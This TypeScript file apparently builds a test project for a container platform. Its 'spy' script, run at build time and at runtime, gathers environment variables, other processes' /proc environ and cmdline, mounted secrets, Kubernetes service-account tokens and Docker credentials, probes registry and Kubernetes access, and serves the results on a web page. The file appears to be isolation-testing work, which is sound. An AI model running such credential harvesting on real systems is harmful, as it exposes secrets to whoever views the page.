import { stringify } from 'yaml';
import { z } from 'zod';

/**
 * Returns a page that shows everything that its build and its container could access. It is seeded from `base`, and
 * publishes it.
 */
export function spyingPage(group: string, registry: string): Record<string, string> {
  const spy = `import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, statSync } from 'node:fs';
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
function read(path) {
  try {
    if (!statSync(path).isDirectory()) return readFileSync(path, 'utf8');
    return Object.fromEntries(readdirSync(path).map((name) => [name, read(path + '/' + name)]));
  } catch (error) {
    return error.code;
  }
}
async function ask(method, url) {
  try {
    return (await fetch(url, { method, signal: AbortSignal.timeout(3000) })).status;
  } catch (error) {
    return String(error.cause?.code ?? error.name);
  }
}
function outcomeOf(read) {
  try {
    return read() ?? 'seen';
  } catch (error) {
    return error.code;
  }
}
const processes = readdirSync('/proc')
  .filter((name) => /^[0-9]+$/.test(name))
  .map((id) => '/proc/' + id);
export const loot = async () => ({
  environment: process.env,
  processes: processes.map((at) => ({
    command: outcomeOf(() => readFileSync(at + '/cmdline', 'utf8')),
    environment: outcomeOf(() => readFileSync(at + '/environ', 'utf8')),
    files: outcomeOf(() => readdirSync(at + '/root').join()),
    descriptors: outcomeOf(() => [...new Set(readdirSync(at + '/fd').map((fd) => outcomeOf(() => void readlinkSync(at + '/fd/' + fd))))].join()),
    memory: outcomeOf(() => closeSync(openSync(at + '/mem'))),
  })),
  secrets: read('/run/secrets'),
  serviceAccount: read('/var/run/secrets/kubernetes.io'),
  cache: read('/cache'),
  docker: ['/root', '/home/user', '/tmp'].map((home) => read(home + '/.docker')),
  push: await ask('POST', 'http://${registry}/v2/${group}/shop/web/blobs/uploads/'),
  pushUntrusted: await ask('POST', 'http://${registry}/v2/${group}/shop/untrusted/web/blobs/uploads/'),
  kubernetes: await ask('GET', 'https://kubernetes.default.svc/api/v1/namespaces/group-${group}/secrets'),
});
`;
  const services = {
    web: {
      build: { context: '.', args: ['BUILD_WORD'], secrets: ['token'] },
      ports: ['8080:8080'],
      environment: { RUN_WORD: '${RUN_WORD}' },
      secrets: ['token'],
    },
  };
  return {
    'compose.yaml': stringify({
      services,
      secrets: { token: { environment: 'TOKEN_WORD' } },
      'x-coppice': { from: 'base', reusable: 'base' },
    }),
    'spy.mjs': spy,
    'build.mjs': "import { loot } from './spy.mjs';\nconsole.log(JSON.stringify(await loot()));\nprocess.exit();\n",
    'server.mjs': `import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { loot } from './spy.mjs';
const build = JSON.parse(readFileSync('build.json', 'utf8'));
const page = JSON.stringify({ build, running: await loot() });
createServer((_request, response) => response.end(page)).listen(8080);
process.on('SIGTERM', () => process.exit(0));
`,
    Dockerfile: `FROM node:24-slim
WORKDIR /app
ARG BUILD_WORD
COPY *.mjs ./
RUN --mount=type=cache,id=shared,target=/cache --mount=type=secret,id=token \\
  if [ -s /run/secrets/token ]; then cp /run/secrets/token /cache/marker; fi
RUN --mount=type=cache,id=shared,target=/cache --mount=type=secret,id=token \\
  node build.mjs > build.json && cat build.json
CMD ["node", "server.mjs"]
`,
  };
}

const lootSchema = z.object({
  processes: z.array(
    z.object({
      command: z.string(),
      environment: z.string(),
      files: z.string(),
      descriptors: z.string(),
      memory: z.string(),
    }),
  ),
  secrets: z.unknown(),
  serviceAccount: z.unknown(),
  cache: z.unknown(),
  push: z.union([z.string(), z.number()]),
  pushUntrusted: z.union([z.string(), z.number()]),
  kubernetes: z.union([z.string(), z.number()]),
});
export type Loot = z.infer<typeof lootSchema>;

/** The content of the page. */
export const pageSchema = z.object({ build: lootSchema, running: lootSchema });
